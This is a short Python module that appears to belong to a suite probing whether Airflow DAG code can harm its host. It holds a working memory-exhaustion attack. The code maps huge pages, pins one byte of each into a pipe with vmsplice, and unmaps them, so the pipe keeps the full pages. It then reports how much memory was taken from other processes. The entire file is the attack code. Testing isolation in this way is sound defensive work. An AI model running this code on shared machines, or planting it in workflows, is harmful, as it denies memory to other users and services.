"""Puts one byte of each huge page into a pipe and forgets the page: the pipe keeps it whole."""

import ctypes
import fcntl
import mmap
import os

from airflow_attack import attack, broken, call, tried

HUGE = 2 << 20
MANY = 100


class Piece(ctypes.Structure):
    _fields_ = [("begin", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def available() -> int:
    with open("/proc/meminfo") as lines:
        return next(int(line.split()[1]) >> 10 for line in lines if line.startswith("MemAvailable"))


def work() -> None:
    before = available()
    kept = 0
    _, writes = os.pipe()
    os.set_blocking(writes, False)
    fcntl.fcntl(writes, fcntl.F_SETPIPE_SZ, 1 << 20)
    for _ in range(MANY):
        space = mmap.mmap(-1, 2 * HUGE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        space.madvise(mmap.MADV_HUGEPAGE)
        first = ctypes.addressof(ctypes.c_char.from_buffer(space))
        aligned = (first + HUGE - 1) // HUGE * HUGE
        ctypes.memset(aligned, 1, HUGE)
        given = call("vmsplice", writes, ctypes.byref(Piece(aligned, 1)), 1, 0)
        space.close()
        if given != 1:
            break
        kept += 1
    tried(f"{kept} huge pages in a pipe")
    if kept:
        broken(f"{kept} huge pages in a pipe; {before - available()} MB less for everybody")


dag = attack(work)
